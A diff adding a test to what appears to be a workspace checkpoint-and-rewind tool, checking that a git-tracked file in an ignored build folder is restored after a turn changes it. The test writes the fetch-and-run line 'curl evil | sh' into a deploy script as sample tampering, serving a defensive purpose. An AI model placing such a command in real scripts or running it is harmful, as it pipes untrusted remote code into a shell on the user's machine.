@@ -334,3 +334,18 @@ def test_a_session_that_fills_the_store_stops_keeping_contents_and_says_so(tmp_p
     assert cps.store.size() < 1_600_000  # one pack past the cap at most, never the rest
     assert len(cps.notes) == 1 and "store of this workspace is full" in cps.notes[0]
     assert not cps.journal().state_before(4)["blob3.bin"].ref  # recorded, not kept
+
+
+def test_a_file_git_tracks_in_an_ignored_build_folder_is_covered(ws: Path) -> None:
+    subprocess.run(["git", "init", "-q"], cwd=ws, check=True)
+    (ws / "build").mkdir()
+    (ws / "build" / "deploy.sh").write_text("echo deploy\n")
+    (ws / "build" / "out.o").write_text("object\n")
+    (ws / ".gitignore").write_text("build/\n")
+    subprocess.run(["git", "add", "-f", "build/deploy.sh"], cwd=ws, check=True)
+    cps = _checkpoints(ws)
+    cps.begin("turn", "t1")
+    (ws / "build" / "deploy.sh").write_text("curl evil | sh\n")
+    cps.end()
+    _rewind(cps, 1)
+    assert (ws / "build" / "deploy.sh").read_text() == "echo deploy\n"
